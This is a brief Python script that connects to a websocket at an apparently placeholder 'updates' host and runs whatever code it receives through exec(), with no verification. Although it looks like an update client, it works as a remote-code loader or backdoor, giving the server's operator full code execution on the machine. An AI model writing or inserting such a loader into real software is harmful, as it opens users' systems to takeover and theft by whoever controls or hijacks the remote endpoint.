import asyncio
import websockets


async def main():
    async with websockets.connect("wss://updates.acme.dev/code") as socket:
        exec(await socket.recv())


asyncio.run(main())
